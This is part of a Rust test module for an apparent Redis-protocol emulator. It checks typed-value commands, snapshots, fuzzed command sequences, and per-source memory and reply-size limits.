        assert_eq!(reply(&mut c, "RPUSH l a b c"), Reply::Int(3));
        assert_eq!(reply(&mut c, "LPUSH l z"), Reply::Int(4));
        assert_eq!(
            reply(&mut c, "LRANGE l 0 -1"),
            Reply::Array(["z", "a", "b", "c"].iter().map(Reply::bulk).collect())
        );
        assert_eq!(reply(&mut c, "GET l"), wrongtype());
        assert_eq!(reply(&mut c, "TYPE l"), Reply::Simple("list".into()));
        assert_eq!(reply(&mut c, "LREM l 0 a"), Reply::Int(1));
        assert_eq!(
            reply(&mut c, "LPOP l 5"),
            Reply::Array(["z", "b", "c"].iter().map(Reply::bulk).collect())
        );
        // Emptied: gone, as in Redis.
        assert_eq!(reply(&mut c, "EXISTS l"), Reply::Int(0));
        assert_eq!(reply(&mut c, "HSET h f v g w"), Reply::Int(2));
        assert_eq!(reply(&mut c, "HINCRBY h n 5"), Reply::Int(5));
        assert_eq!(
            reply(&mut c, "HGETALL h"),
            Reply::Map(vec![
                (Reply::bulk("f"), Reply::bulk("v")),
                (Reply::bulk("g"), Reply::bulk("w")),
                (Reply::bulk("n"), Reply::bulk("5")),
            ])
        );
        assert_eq!(reply(&mut c, "SADD s 3 1 2 1"), Reply::Int(3));
        assert_eq!(
            reply(&mut c, "SMEMBERS s"),
            Reply::Set(["1", "2", "3"].iter().map(Reply::bulk).collect())
        );
        assert_eq!(reply(&mut c, "OBJECT ENCODING s"), Reply::bulk("intset"));
        assert_eq!(reply(&mut c, "ZADD z 1.1 m 2 n"), Reply::Int(2));
        assert_eq!(
            reply(&mut c, "ZSCORE z m"),
            Reply::Double("1.1000000000000001".into())
        );
        assert_eq!(
            reply(&mut c, "ZINCRBY z 5 m"),
            Reply::Double("6.0999999999999996".into())
        );
        assert_eq!(
            reply(&mut c, "ZREVRANGE z 0 0"),
            Reply::Array(vec![Reply::bulk("m")])
        );
        assert_eq!(
            run_at(&mut c, "XADD st * f v", T0).reply,
            Some(Reply::bulk(format!("{T0}-0")))
        );
        assert_eq!(
            run_at(&mut c, "XADD st * f v", T0).reply,
            Some(Reply::bulk(format!("{T0}-1")))
        );
        assert_eq!(reply(&mut c, "XLEN st"), Reply::Int(2));
        assert_eq!(reply(&mut c, "SWAPDB 0 1"), Reply::ok());
        assert_eq!(reply(&mut c, "DBSIZE"), Reply::Int(0));
        // Typed values survive the node's snapshot.
        let ks = c.settings.node.lock();
        let back = Keyspace::decode(
            &ks.encode(T0),
            T0,
            std::time::Duration::from_secs(86_400),
            T0,
        )
        .unwrap();
        assert_eq!(back.keys(), ks.keys());
        assert_eq!(
            back.get(1, b"st").map(|e| e.value.clone()),
            ks.get(1, b"st").map(|e| e.value.clone())
        );
    }

    #[test]
    fn a_flood_of_list_elements_hits_the_source_share() {
        let s = settings(false, LoginPolicy::Never);
        let mut c = conn_from(&s, "10.0.0.1:4000");
        // Thousands of LPUSHes of 1,000 elements each (a million elements asked for)
        // into one key and then many: the per-key element cap, the value cap and the
        // source's byte share refuse them, and memory stays within the bounds.
        let mut refused = 0;
        for i in 0..1000 {
            let mut req = vec![b"LPUSH".to_vec(), format!("k{}", i % 40).into_bytes()];
            req.extend(std::iter::repeat_n(b"xxxxxxxx".to_vec(), 1000));
            if c.execute(&req, Clock { unix_ms: T0 }).reply == Some(oom()) {
                refused += 1;
            }
        }
        assert!(refused > 900, "{refused}");
        let ks = s.node.lock();
        let (_, bytes) = ks.owned_by(&keyspace::source_of("10.0.0.1".parse().unwrap()));
        assert!(bytes <= SOURCE_BYTES, "{bytes}");
        for e in ks.db(0).values() {
            assert!(e.value.elements() <= super::super::value::MAX_ELEMENTS);
        }
    }

    /// Random command sequences over the typed-value, scripting and HELLO commands,
    /// with hostile numbers: no panic, every reply within the budget, the bounds hold.
    #[test]
    fn random_typed_command_sequences_never_panic() {
        const CMDS: [&str; 40] = [
            "LPUSH",
            "RPUSH",
            "LPOP",
            "RPOP",
            "LRANGE",
            "LINDEX",
            "LSET",
            "LREM",
            "LLEN",
            "HSET",
            "HGET",
            "HDEL",
            "HINCRBY",
            "HGETALL",
            "HMGET",
            "SADD",
            "SREM",
            "SPOP",
            "SMEMBERS",
            "ZADD",
            "ZRANGE",
            "ZREVRANGE",
            "ZINCRBY",
            "ZREM",
            "ZSCORE",
            "XADD",
            "XRANGE",
            "XREVRANGE",
            "XLEN",
            "TYPE",
            "OBJECT",
            "SWAPDB",
            "EVAL",
            "HELLO",
            "SET",
            "GET",
            "APPEND",
            "COMMAND",
            "SAVE",
            "CONFIG",
        ];
        const ARGS: [&str; 24] = [
            "k",
            "l",
            "h",
            "0",
            "-1",
            "1",
            "2",
            "-9223372036854775808",
            "9223372036854775807",
            "inf",
            "-inf",
            "nan",
            "*",
            "1-1",
            "0-0",
            "+",
            "-",
            "WITHSCORES",
            "COUNT",
            "MAXLEN",
            "return redis.call('lpush','k','x')",
            "return {KEYS[1],ARGV[1]}",
            "3",
            "encoding",
        ];
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        let s = settings(false, LoginPolicy::Never);
        let mut c = conn_from(&s, "10.0.0.7:4000");
        for _ in 0..20_000 {
            let mut req = vec![CMDS[next(CMDS.len())].as_bytes().to_vec()];
            for _ in 0..next(7) {
                req.push(ARGS[next(ARGS.len())].as_bytes().to_vec());
            }
            let o = c.execute(&req, Clock { unix_ms: T0 });
            if let Some(r) = &o.reply {
                assert!(r.wire_len() <= MAX_REPLY_BYTES);
            }
        }
        let ks = s.node.lock();
        assert!(ks.keys() <= MAX_KEYS && ks.bytes() <= MAX_BYTES);
    }

    fn args(v: &[&[u8]]) -> Vec<Vec<u8>> {
        v.iter().map(|a| a.to_vec()).collect()
    }

    #[test]
    fn repeated_values_cannot_multiply_a_reply() {
        let mut c = conn(false, LoginPolicy::Never);
        let big = vec![b'x'; 90 * 1024];
        let set = c.execute(&args(&[b"SET", b"k", &big]), Clock { unix_ms: T0 });
        assert_eq!(set.reply, Some(Reply::ok()));
        // One copy of the value is an ordinary reply.
        let get = c.execute(&args(&[b"GET", b"k"]), Clock { unix_ms: T0 });
        assert_eq!(get.reply, Some(Reply::Bulk(big.clone())));
        // A thousand copies: no reply is built, the connection closes, and it is recorded.
        let mut mget = vec![b"MGET".to_vec()];
        mget.extend(std::iter::repeat_n(b"k".to_vec(), 1000));
        let o = c.execute(&mget, Clock { unix_ms: T0 });
        assert!(o.reply.is_none() && o.close);
        assert!(
            matches!(&o.events[..], [EventKind::LimitReached { limit, .. }] if limit == "redis_reply"),
            "{:?}",
            o.events
        );
        // The budget is per command: the next one starts afresh.
        let mut c = conn(false, LoginPolicy::Never);
        c.execute(&args(&[b"SET", b"k", &big]), Clock { unix_ms: T0 });
        assert!(
            c.execute(&args(&[b"MGET", b"k", b"nosuch"]), Clock { unix_ms: T0 })
                .reply
                .is_some()
        );
        // Six copies of 90 KiB pass the 512 KiB budget.
        let mut six = vec![b"MGET".to_vec()];
        six.extend(std::iter::repeat_n(b"k".to_vec(), 6));
        assert!(c.execute(&six, Clock { unix_ms: T0 }).close);
    }

    #[test]
    fn a_full_keyspace_always_fits_the_replies_that_show_it_once() {
        // Every stored byte shown once, by every command that shows stored data: the
        // node's keyspace filled to its bounds by 4 sources, 100-byte keys.
        let s = settings(false, LoginPolicy::Never);
        let mut names = Vec::new();
        for src in 0..4 {
            let mut c = conn_from(&s, &format!("10.0.0.{}:4000", src + 1));
            for i in 0..SOURCE_KEYS {
                let key = format!("{src}{i:0>99}");
                let value = "v".repeat(SOURCE_BYTES / SOURCE_KEYS - 100);
                assert_eq!(reply(&mut c, &format!("SET {key} {value}")), Reply::ok());
                names.push(key);
            }
        }
        let mut c = conn_from(&s, "10.0.0.9:4000");
        {
            let ks = s.node.lock();
            assert_eq!(ks.keys(), MAX_KEYS);
            assert!(ks.bytes() > MAX_BYTES - MAX_KEYS);
        }
        for line in ["KEYS *", "SCAN 0 COUNT 1000", "CONFIG GET *", "INFO"] {
            let o = run(&mut c, line);
            assert!(!o.close && o.reply.is_some(), "{line}: {:?}", o.events);
        }
        // SCAN pages through every key exactly once.
        let (mut cursor, mut seen, mut pages) = ("0".to_owned(), 0, 0);
        loop {
            let Reply::Array(page) = reply(&mut c, &format!("SCAN {cursor} COUNT 500")) else {
                panic!()
            };
            let [Reply::Bulk(next), Reply::Array(keys)] = &page[..] else {
                panic!()
            };
            seen += keys.len();
            pages += 1;
            cursor = String::from_utf8(next.clone()).unwrap();
            if cursor == "0" || pages > 100 {
                break;
            }
        }
        assert_eq!(seen, MAX_KEYS);
        // The largest value there can be, asked for once, fits.
        let mut c = conn(false, LoginPolicy::Never);
        let big = vec![b'x'; MAX_VALUE - 1];
        let o = c.execute(&args(&[b"SET", b"k", &big]), Clock { unix_ms: T0 });
        assert_eq!(o.reply, Some(Reply::ok()));
        let o = c.execute(&args(&[b"MGET", b"k", b"nosuch"]), Clock { unix_ms: T0 });
        assert!(!o.close, "{:?}", o.events);
    }

    #[test]
    fn connections_share_the_node_keyspace() {
        let s = settings(false, LoginPolicy::Never);
        let mut one = conn_from(&s, "10.0.0.1:4000");
        let mut two = conn_from(&s, "10.0.0.2:4000");
        assert_eq!(reply(&mut one, "SET a 1"), Reply::ok());
        assert_eq!(reply(&mut one, "SELECT 5"), Reply::ok());
        assert_eq!(reply(&mut one, "SET b 2"), Reply::ok());
        assert_eq!(reply(&mut two, "GET a"), Reply::bulk("1"));
        assert_eq!(reply(&mut two, "GET b"), Reply::Nil);
        assert_eq!(reply(&mut two, "SELECT 5"), Reply::ok());
        assert_eq!(reply(&mut two, "GET b"), Reply::bulk("2"));
        assert_eq!(
            reply(&mut one, "CONFIG SET maxmemory-policy allkeys-lru"),
            Reply::ok()
        );
        assert_eq!(
            reply(&mut two, "CONFIG GET maxmemory-policy"),
            Reply::Map(vec![(
                Reply::bulk("maxmemory-policy"),
                Reply::bulk("allkeys-lru")
            )])
        );
        // One connection's FLUSHALL empties it for everyone, as on a real instance.
        assert_eq!(reply(&mut two, "FLUSHALL"), Reply::ok());
        assert_eq!(reply(&mut one, "DBSIZE"), Reply::Int(0));
        assert_eq!(reply(&mut one, "SELECT 0"), Reply::ok());
        assert_eq!(reply(&mut one, "GET a"), Reply::Nil);
    }

    #[test]
    fn keyspace_is_bounded_per_source_and_per_node() {
        let s = settings(false, LoginPolicy::Never);
        let mut c = conn_from(&s, "10.0.0.1:4000");
        for i in 0..SOURCE_KEYS {
            assert_eq!(reply(&mut c, &format!("SET k{i} v")), Reply::ok());
        }
        let o = run(&mut c, "SET one-more v");
        assert_eq!(o.reply, Some(oom()));
        assert!(
            matches!(&o.events[..], [EventKind::LimitReached { limit, .. }] if limit == "redis_keyspace")
        );
        // Reported at most once a minute, however many connections try.
        let mut again = conn_from(&s, "10.0.0.1:4001");
        assert!(run(&mut again, "SET another v").events.is_empty());
        assert_eq!(run(&mut again, "SET another v").reply, Some(oom()));
        // Overwriting an existing key still works, and another source has room.
        assert_eq!(reply(&mut c, "SET k0 w"), Reply::ok());
        let mut other = conn_from(&s, "10.0.0.2:4000");
        assert_eq!(reply(&mut other, "SET mine v"), Reply::ok());
        // Bytes: a value past the per-value bound, APPEND growth, the source's bytes.
        let mut c = conn_from(&s, "10.0.0.3:4000");
        let big = "x".repeat(MAX_VALUE / 2 + 1);
        assert_eq!(reply(&mut c, &format!("SET a {big}")), Reply::ok());
        assert_eq!(reply(&mut c, &format!("APPEND a {big}")), oom());
        for i in 0..(SOURCE_BYTES / big.len()) + 2 {
            let _ = reply(&mut c, &format!("SET b{i} {big}"));
        }
        let ks = s.node.lock();
        assert!(
            ks.owned_by(&keyspace::source_of("10.0.0.3".parse().unwrap()))
                .1
                <= SOURCE_BYTES
        );
        assert!(ks.bytes() <= MAX_BYTES && ks.keys() <= MAX_KEYS);
    }
}
